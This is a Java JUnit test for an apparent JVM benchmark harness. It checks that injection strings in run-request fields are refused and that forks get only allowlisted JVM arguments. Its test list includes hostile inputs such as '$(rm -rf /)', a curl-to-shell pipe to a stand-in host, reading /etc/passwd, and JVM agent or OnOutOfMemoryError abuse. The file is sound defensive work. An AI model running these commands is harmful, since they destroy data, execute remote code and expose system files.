package dev.perflab.run;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.perflab.catalog.ExperimentDefinition;
import dev.perflab.catalog.TestExperiments;
import dev.perflab.fork.ClassCaches;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Nothing a user types reaches a command line: an injection string in any field of a run request
 * is refused naming that field, and a run that passes hands its forks only the allowlisted
 * arguments of the JVM options it picked (the spec travels on the harness's stdin, never argv).
 */
class CommandLineInjectionTest {

    static final List<String> INJECTIONS = List.of(
            "$(rm -rf /)",
            "`reboot`",
            "; reboot",
            "&& curl http://evil | sh",
            "| cat /etc/passwd",
            "-XX:+UnlockDiagnosticVMOptions",
            "-XX:OnOutOfMemoryError=sh -c reboot",
            "--add-opens=java.base/java.lang=ALL-UNNAMED",
            "-javaagent:/tmp/agent.jar",
            "-Xint",
            "@/tmp/argfile",
            "-Dx=$(id)",
            "c1-only -Xint",
            "c1-only\n-Xint",
            "c1-only\u0000-Xint",
            "c1-only;-Xint",
            "c1-only,-Xint",
            "' OR '1'='1",
            "%n%s%s");

    private final RunRequestCheck check = new RunRequestCheck(TestExperiments.catalog(), Duration.ofMinutes(10));
    private final ExperimentDefinition experiment =
            TestExperiments.catalog().find(TestExperiments.ID).orElseThrow();
    // Building a spec reads only the base fork arguments (the heap): the launcher, store and metrics are never touched.
    private final RunExecution execution = new RunExecution(
            null,
            null,
            null,
            Clock.systemUTC(),
            Duration.ofMinutes(1),
            List.of("-Xms1g", "-Xmx1g"),
            "test",
            null,
            ClassCaches.none());

    @Test
    void refusesAnInjectionStringInEveryFieldNamingIt() {
        for (String injection : INJECTIONS) {
            for (var param : experiment.params()) {
                assertRefused(request(Map.of(param.name(), injection), Map.of()), "params." + param.name(), injection);
            }
            for (String option : RunRequestCheck.OPTIONS) {
                assertRefused(request(Map.of(), Map.of(option, injection)), "options." + option, injection);
            }
            assertRefused(
                    request(Map.of(), Map.of("jvmOptions", List.of("c1-only", injection))),
                    "options.jvmOptions",
                    injection);
            assertRefused(new RunRequest(injection, Map.of(), Map.of()), "experiment", injection);
            assertRefused(
                    new RunRequest(TestExperiments.ID, Map.of(), Map.of(), Map.of(injection, 1)), injection, injection);
        }
    }

    @Test
    void handsTheForksOnlyTheHeapAndTheAllowlistedArgumentsOfThePickedOptions() {
        var allowlist = experiment.jvmOptions();
        for (int picked = 0; picked < 1 << allowlist.size(); picked++) {
            List<String> ids = new ArrayList<>();
            List<String> expected = new ArrayList<>(List.of("-Xms1g", "-Xmx1g"));
            for (int i = 0; i < allowlist.size(); i++) {
                if ((picked & 1 << i) != 0) {
                    ids.add(allowlist.get(i).id());
                    expected.addAll(allowlist.get(i).args());
                }
            }
            var request = request(Map.of(), Map.of("profile", "smoke", "jvmOptions", ids));
            if (ids.containsAll(List.of("serial-gc", "parallel-gc"))) {
                // Two collectors are refused before anything reaches a command line.
                org.assertj.core.api.Assertions.assertThatThrownBy(() -> check.check(request))
                        .isInstanceOf(RunRejectedException.class);
                continue;
            }
            var run = check.check(request);

            assertThat(execution.spec(run).jvmArgs()).as(ids.toString()).isEqualTo(expected);
        }
    }

    @Test
    void handsEveryForkTheDefinitionsOwnJvmArgsAfterTheHeapAndBeforeThePickedOptions() {
        var withModule = new RunRequestCheck(
                TestExperiments.catalogWithJvmArgs("--add-modules=jdk.incubator.vector"), Duration.ofMinutes(10));

        var plain = withModule.check(request(Map.of(), Map.of("profile", "smoke")));
        var picked = withModule.check(request(Map.of(), Map.of("profile", "smoke", "jvmOptions", List.of("c1-only"))));

        assertThat(execution.spec(plain).jvmArgs())
                .containsExactly("-Xms1g", "-Xmx1g", "--add-modules=jdk.incubator.vector");
        assertThat(execution.spec(picked).jvmArgs())
                .containsExactly("-Xms1g", "-Xmx1g", "--add-modules=jdk.incubator.vector", "-XX:TieredStopAtLevel=1");
    }

    /** A choice's arguments reach only its own forks: the spec carries them per chosen value, for the harness. */
    @Test
    void handsTheArgumentsOfAChosenValueOnlyToThatValuesForks() {
        var tiers = new RunRequestCheck(TestExperiments.catalogWithChoiceJvmArgs("-Xint"), Duration.ofMinutes(10));

        var both = execution.spec(tiers.check(request(Map.of(), Map.of("profile", "smoke"))));
        var onlyB = execution.spec(tiers.check(request(Map.of("variant", "b"), Map.of("profile", "smoke"))));

        assertThat(both.jvmArgs()).containsExactly("-Xms1g", "-Xmx1g");
        assertThat(both.choiceJvmArgs()).isEqualTo(Map.of("variant", Map.of("a", List.of("-Xint"))));
        assertThat(onlyB.choiceJvmArgs()).isEmpty();
    }

    private static RunRequest request(Map<String, Object> params, Map<String, Object> options) {
        return new RunRequest(TestExperiments.ID, params, options);
    }

    private void assertRefused(RunRequest request, String field, String injection) {
        var refused = catchThrowableOfType(RunRejectedException.class, () -> check.check(request));
        assertThat(refused).as(field + " = " + injection).isNotNull();
        assertThat(refused.errors())
                .extracting(FieldError::field)
                .as(field + " = " + injection)
                .contains(field);
    }
}
